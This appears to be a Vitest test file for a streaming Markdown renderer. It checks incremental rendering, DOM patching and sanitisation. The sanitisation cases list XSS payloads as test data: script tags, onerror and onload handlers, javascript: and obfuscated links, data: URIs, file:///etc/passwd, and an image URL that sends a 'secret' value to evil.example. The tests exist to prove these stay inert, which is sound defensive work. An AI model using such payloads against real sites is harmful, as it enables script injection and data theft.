// @vitest-environment jsdom
import { describe, expect, test } from 'vitest'
import { IncrementalMarkdown } from './incremental'
import { renderMarkdown } from './parser'
import { patchHtml } from './patch'

const TEXTS: Record<string, string> = {
  paragraphs: 'One line\nand more.\n\nAnother *with* `code` and **bold**.\n\nThird.',
  headings: '# One\n\nTwo\n---\nThree\n===\n\n#### Four\ntext',
  'setext after what looks like a list': 'para\n---\n\nmore\n- item\n\nend',
  lists: '- a\n- b\n  - c\n\n  para in b\n\n- d\n\n1. x\n2. y\n\n   z\n\nafter\n\n* other\n* list',
  fences: 'Text\n```python\nprint("a")\n\n# no heading\n```\nafter\n\n~~~\nopen to the end\n\n- no list',
  'indented code': 'Text\n\n    code\n\n    more\n\nend',
  quotes: '> a\nlazy\n>\n> - b\n> - c\n\n> d\n\ntext',
  tables: 'a | b\n--|:-:\n1 | 2\n3 | 4\n\nno table | here\n\n| x |\n|--:|\n| `y` |\ntext',
  math: 'Price $5 and $6, $x^2$ and \\(y\\).\n\n$$\na\n\nb\n$$\n\nText\n\\[\nc\n\\]\n$$d$$\n\nend $$ open',
  references: 'See [one] and [two][2].\n\nText\n\n[one]: https://example.org/1\n[2]: https://example.org/2 "T"\n\nend [one]',
  breaks: 'a  \nb\\\nc\n\n***\n\n---\nd',
  escapes: '\\*no\\* &amp; &lt;b&gt; <b>raw</b>\n\n<div>\n\n*in*\n\n</div>\n',
  chinese: '标题\n===\n\n列表：\n- 一\n- 二\n\n**粗体**，`代码`。',
}

function blocksAsHtml(updates: string[]): string {
  const incremental = new IncrementalMarkdown()
  let html = ''
  for (const source of updates) {
    const blocks = incremental.update(source)
    html = blocks.map((block) => block.html).join('')
  }
  return html
}

describe.each(Object.entries(TEXTS))('%s', (_, text) => {
  const whole = renderMarkdown(text)

  test('are the same for every split in two', () => {
    for (let at = 0; at <= text.length; at++) {
      expect(blocksAsHtml([text.slice(0, at), text]), `split at ${at}`).toBe(whole)
    }
  })

  test('are the same character by character', () => {
    const incremental = new IncrementalMarkdown()
    for (let end = 0; end <= text.length; end++) {
      const part = text.slice(0, end)
      const blocks = incremental.update(part)
      expect(blocks.map((block) => block.html).join(''), `after ${end}`).toBe(renderMarkdown(part))
    }
  })

  test('are the same in an element that is patched character by character', () => {
    const patched = document.createElement('div')
    const written = document.createElement('div')
    for (let end = 0; end <= text.length; end++) {
      const html = renderMarkdown(text.slice(0, end))
      patchHtml(patched, html)
      written.innerHTML = html
      expect(patched.innerHTML, `after ${end}`).toBe(written.innerHTML)
    }
  })
})

test('a growing paragraph keeps its text node', () => {
  const root = document.createElement('div')
  patchHtml(root, '<p>One <em>two</em> thr</p>')
  const [paragraph, last] = [root.firstChild, root.firstChild?.lastChild]
  patchHtml(root, '<p>One <em>two</em> three <code>four</code></p>')
  expect(root.firstChild).toBe(paragraph)
  expect(paragraph?.childNodes[2]).toBe(last)
  expect(last?.nodeValue).toBe(' three ')
})

test('blocks that are over keep their HTML and their key while the text grows', () => {
  const incremental = new IncrementalMarkdown()
  const before = incremental.update('One.\n\nTwo.\n\nThr')
  const after = incremental.update('One.\n\nTwo.\n\nThree.')
  expect(before.map((block) => block.isOver)).toEqual([true, false, false])
  expect(after[0]).toBe(before[0])
  expect(after[1]).toEqual(before[1])
})

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  ['a link that runs', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a file link', '[x](file:///etc/passwd) [y](vbscript:x)'],
  ['a remote image', '![secret](https://evil.example/?q=secret) ![x][1]\n\n[1]: http://evil.example/x.png'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a style', '<style>*{display:none}</style><p style="position:fixed">x</p>'],
  ['an attribute in code', '```"onmouseover="alert(1)\nx\n```'],
  ['svg', '<svg onload=alert(1)><use href="data:image/svg+xml,x"/></svg> ![x](data:image/svg+xml;base64,PHN2Zz4=)'],
  ['an entity', '[x](&#106;avascript:alert(1))'],
])('%s stays inert', (_, source) => {
  const root = document.createElement('div')
  root.innerHTML = renderMarkdown(source)
  expect(root.querySelectorAll('script, iframe, style, svg, img, object, embed, form, input')).toHaveLength(0)
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|style$|srcset$)/)
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/)
    }
  }
})

test('only the numbers of sources become citations', () => {
  const html = renderMarkdown('A [1], [2] and [3](https://example.org).', new Set([1, 3]))
  expect(html.match(/data-citation="\d"/g)).toEqual(['data-citation="1"'])
})
